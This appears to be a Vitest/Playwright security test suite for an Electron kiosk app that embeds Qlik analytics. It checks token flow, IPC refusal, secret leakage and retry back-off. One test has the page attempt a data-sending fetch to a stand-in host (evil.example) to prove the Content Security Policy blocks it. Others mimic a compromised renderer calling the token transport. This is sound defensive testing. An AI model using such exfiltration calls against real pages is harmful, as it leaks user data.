import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { REFUSED } from '../../src/main/ipc/register';
import { BRIDGE_GLOBAL, Channels, HEALTH_GLOBAL, RENDERER_CONFIG_PATH } from '../../src/shared/ipc-contract';
import { makeCanary } from '../support/canary';
import { describeWithKeyring } from '../integration/secrets/keyring-env';
import type { Frame } from 'playwright-core';
import { embedsShowing, REPO, startHarness, transportCall, type Harness, statusShown } from './qiosk-harness';


function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((f) => {
    const p = path.join(dir, f);
    return statSync(p).isDirectory() ? filesUnder(p) : [p];
  });
}

describeWithKeyring('kiosk window in Chromium: real renderer, preload logic and main services', () => {
  const secret = makeCanary();
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness({ secret });
    await embedsShowing(h.page);
  });
  afterAll(async () => h?.close());

  it('mints in main with no Origin, then the embeds use that token from the renderer origin, exchange it and connect', async () => {
    await h.page.waitForFunction(() => [...document.querySelectorAll('[data-fake-qlik-embed]')].every((e) => e.getAttribute('data-ws-state') === 'connected'), null, { timeout: 10_000 });
    const log = h.tenant.log();
    const mints = log.filter((e) => e.grantType === 'urn:qlik:oauth:user-impersonation');
    expect(mints).toHaveLength(1); // three embeds, one mint
    const mint = mints[0]!;
    expect(mint).toMatchObject({ origin: null, status: 200, userLookup: { field: 'userId', value: 'u-1' }, secretPresent: true });
    const minted = mint.issuedTokenId;
    // Main's own tenant check asks first, with no Origin (not a browser); then the page, from the renderer origin.
    expect(log.find((e) => e.path === '/api/v1/users/me')).toMatchObject({ bearerTokenId: minted, origin: null, status: 200 });
    const me = log.find((e) => e.path === '/api/v1/users/me' && e.method === 'GET' && e.origin !== null);
    const exchange = log.find((e) => e.grantType === 'urn:ietf:params:oauth:grant-type:token-exchange');
    const ws = log.find((e) => e.websocket);
    expect(me).toMatchObject({ bearerTokenId: minted, origin: h.origin, status: 200 });
    expect(exchange).toMatchObject({ subjectTokenId: minted, origin: h.origin, status: 200, purpose: 'websocket', clientId: 'kiosk-imp', secretPresent: false });
    expect(ws).toMatchObject({ path: '/app/app-1', status: 101 });
    expect(mint.seq).toBeLessThan(me!.seq);
    expect(me!.seq).toBeLessThan(exchange!.seq);
    expect(exchange!.seq).toBeLessThan(ws!.seq);
    for (const e of log.filter((x) => x.path === '/oauth/token' && x.secretPresent)) expect(e.origin).toBeNull();
    const users = await h.page.$$eval('[data-fake-qlik-embed]', (els) => els.map((e) => e.getAttribute('data-user-id')));
    expect(users).toEqual(['u-1', 'u-1', 'u-1']);
    expect(await h.page.locator('qlik-embed[access-token-storage]').count()).toBe(0);
    expect(await h.page.locator('qlik-embed[auth-type="Oauth2"]').count()).toBe(3);
  });

  it('fetches its settings and the tenant\'s runtime once each, beside its own scripts: both preloads are taken', async () => {
    const fetched = await h.page.evaluate(() => performance.getEntriesByType('resource').map((e) => [new URL(e.name).pathname, (e as PerformanceResourceTiming).initiatorType]));
    const of = (p: string) => fetched.filter(([path]) => path === p).map(([, by]) => by);
    // A second entry ('fetch' or 'script') would be the page asking again: the preload wasted.
    expect(of(RENDERER_CONFIG_PATH)).toEqual(['link']); // index.html's <link rel=preload>
    expect(of('/qlik-embed/main.js')).toEqual(['link']); // the Link header main sends with index.html
  });

  it('exposes exactly the token bridge and the health report from the preload, functions with no properties; the transport stays out of reach', async () => {
    const exposed = await h.page.evaluate((names) => ({
      types: names.map((n) => typeof (window as unknown as Record<string, unknown>)[n]),
      keys: names.flatMap((n) => Object.keys((window as unknown as Record<string, object>)[n]!)),
      qiosk: Object.getOwnPropertyNames(window).filter((k) => /qiosk|ipc/i.test(k)).sort(),
      node: [typeof (window as unknown as { require?: unknown }).require, typeof (window as unknown as { process?: unknown }).process],
    }), [BRIDGE_GLOBAL, HEALTH_GLOBAL]);
    expect(exposed).toEqual({ types: ['function', 'function'], keys: [], qiosk: [BRIDGE_GLOBAL, HEALTH_GLOBAL].sort(), node: ['undefined', 'undefined'] });
    expect([...h.channels].sort()).toEqual(Object.values(Channels).sort()); // admin channels too: they answer only the admin window (admin.test.ts)
  });

  it('refuses a health report that does not match the contract, from the page or from the preload\'s world', async () => {
    const answer = await h.page.evaluate((n) => (window as unknown as Record<string, (r: unknown) => Promise<unknown>>)[n]!({ tiles: [{ phase: 'rendered', mounted: true, token: 'x' }] }), HEALTH_GLOBAL);
    expect(answer).toEqual({ remount: [], unavailable: [] }); // the preload swallows the refusal
    const direct = await h.evaluateInPreloadWorld(h.page.mainFrame(), transportCall(Channels.reportHealth, { tiles: Array.from({ length: 65 }, () => ({ phase: 'rendered', mounted: true })) }));
    expect(direct).toContain(REFUSED);
    expect(readFileSync(h.logFile, 'utf8')).toMatch(/refused IPC call.*qiosk:report-health.*arguments do not match/);
  });

  it('cannot be steered to another user by arguments: the bridge ignores them and main refuses them', async () => {
    const token = await h.page.evaluate((name) => (window as unknown as Record<string, (...a: unknown[]) => Promise<string>>)[name]!({ userId: 'u-2' }, 'u-2'), BRIDGE_GLOBAL);
    const record = h.tenant.tokens().find((t) => t.id === h.tenant.tokenIdOf(token));
    expect(record?.userId).toBe('u-1');
    // Even the transport itself, from the preload's world, with arguments: main refuses them.
    const direct = await h.evaluateInPreloadWorld(h.page.mainFrame(), transportCall(Channels.getAccessToken, { userId: 'u-2' }));
    expect(direct).toContain(REFUSED);
  });

  it('gives no token to a subframe, another origin, or a window Qiosk did not create', async () => {
    // As a compromised renderer could: the transport called from each frame's preload world.
    const call = (f: Frame) => h.evaluateInPreloadWorld(f, transportCall(Channels.getAccessToken));
    await h.page.evaluate(() => new Promise<void>((r) => {
      const f = document.createElement('iframe');
      f.src = '/status.html?code=x&message=y';
      f.onload = () => r();
      document.body.append(f);
    }));
    const sub = h.page.frames().find((f) => f !== h.page.mainFrame())!;
    expect(await sub.evaluate((n) => typeof (window as unknown as Record<string, unknown>)[n], BRIDGE_GLOBAL)).toBe('undefined'); // no preload in subframes
    expect(await call(sub)).toContain(REFUSED);

    const stranger = await h.newPage(); // same origin, but not a window Qiosk created
    await stranger.goto(`${h.origin}/status.html?code=x&message=y`);
    expect(await call(stranger.mainFrame())).toContain(REFUSED);

    h.adopt(stranger); // one of ours now, but showing another origin
    await stranger.goto(`${h.tenant.baseUrl}/api/v1/tenants/me`);
    expect(await call(stranger.mainFrame())).toContain(REFUSED);
    await stranger.close();
    expect(readFileSync(h.logFile, 'utf8')).toContain('refused IPC call');
    // What another window shows is no fault of the kiosk window's: its supervisor did not act.
    expect(h.supervisor.health.lastHeal).toBeUndefined();
  });

  it('enforces the CSP: the page cannot send data to another origin', async () => {
    const result = await h.page.evaluate(() => fetch('https://evil.example/x').then(() => 'sent', () => 'blocked'));
    expect(result).toBe('blocked');
    expect(h.consoleLines.join('\n')).toMatch(/Content Security Policy/);
  });

  it('keeps the canary secret out of the DOM, storage, cookies, console, requests, bundles and logs', async () => {
    const seen = await h.page.evaluate(async () => {
      const walk = (root: Document | ShadowRoot | Element): string => {
        let out = root instanceof Element ? root.outerHTML : '';
        for (const el of root.querySelectorAll('*')) if (el.shadowRoot) out += walk(el.shadowRoot) + [...el.shadowRoot.children].map((c) => c.outerHTML).join('');
        return out;
      };
      const idb = await indexedDB.databases();
      return {
        dom: document.documentElement.outerHTML + walk(document),
        local: JSON.stringify({ ...localStorage }),
        session: JSON.stringify({ ...sessionStorage }),
        idb: JSON.stringify(idb),
        globals: Object.keys(window).join(','),
      };
    });
    const cookies = JSON.stringify(await h.context.cookies());
    const bundles = [...filesUnder(path.join(REPO, 'out/renderer')), ...filesUnder(path.join(REPO, 'out/preload'))]
      .map((f) => readFileSync(f, 'utf8')).join('\n');
    const texts: Record<string, string> = {
      ...seen, cookies, console: h.consoleLines.join('\n'), requests: JSON.stringify(h.requests), bundles,
      log: readFileSync(h.logFile, 'utf8'), tenantLog: JSON.stringify(h.tenant.log()),
    };
    expect(Object.keys(texts).length).toBeGreaterThan(8);
    for (const [where, text] of Object.entries(texts)) expect(text.includes(secret), `canary in ${where}`).toBe(false);
    for (const r of h.requests) expect(`${r.url} ${JSON.stringify(r.headers)} ${r.body ?? ''}`).not.toMatch(/client_secret/);
    expect(seen.local + seen.session).not.toMatch(/access-token/);
  });
});

describeWithKeyring('kiosk window in Chromium: tenant failing at start-up', () => {
  const secret = makeCanary();
  let h: Harness;
  afterAll(async () => h?.close());

  it('shows the status screen during 500s, recovers with no human action, and stays inside the rate limit', async () => {
    h = await startHarness({ secret, beforeStart: (t) => void t.addFault({ path: '/oauth/token', status: 500, body: 'down', times: 3 }) });
    await statusShown(h, 10_000, /status\.html/);
    expect(await h.page.locator('body').innerText()).toMatch(/Qlik/i);
    // The countdown follows main's retries without the page reloading: one status page for the whole outage.
    const countdowns = new Set<string>();
    const watch = setInterval(() => void h.page.locator('#when').innerText().then((t) => countdowns.add(t), () => {}), 250);
    await embedsShowing(h.page); // back on content by itself, after 1 s + 2 s + 4 s of back-off
    clearInterval(watch);
    expect(countdowns.size, [...countdowns].join(" | ")).toBeGreaterThan(2);
    const tokenCalls = h.tenant.log().filter((e) => e.path === '/oauth/token' && e.secretPresent);
    expect(tokenCalls.map((e) => e.status)).toEqual([500, 500, 500, 200]);
    // Backed off, not hammering: each retry waits at least ~1 s and longer than the one before, and no
    // 60 s window holds more token calls than the tenant's rate limit.
    const sent = h.mainRequests.filter((r) => r.url.endsWith('/oauth/token')).map((r) => r.at);
    expect(sent).toHaveLength(tokenCalls.length);
    const gaps = sent.slice(1).map((at, i) => at - sent[i]!);
    expect(Math.min(...gaps)).toBeGreaterThanOrEqual(900);
    for (let i = 1; i < gaps.length; i++) expect(gaps[i]!).toBeGreaterThan(gaps[i - 1]!);
    const perMinute = Math.max(...sent.map((a) => sent.filter((b) => b >= a && b < a + 60_000).length));
    expect(perMinute).toBeLessThanOrEqual(h.tenant.options.rateLimit.tokenEndpointPerMinute);
    expect(h.navigations.filter((u) => u.includes('status.html'))).toHaveLength(1);
    expect(h.navigations.at(-1)).toBe(h.contentUrl);
    const states = await h.page.$$eval('[data-fake-qlik-embed]', (els) => els.map((e) => e.getAttribute('data-user-id')));
    expect(states).toEqual(['u-1', 'u-1', 'u-1']);
  }, 60_000);
});
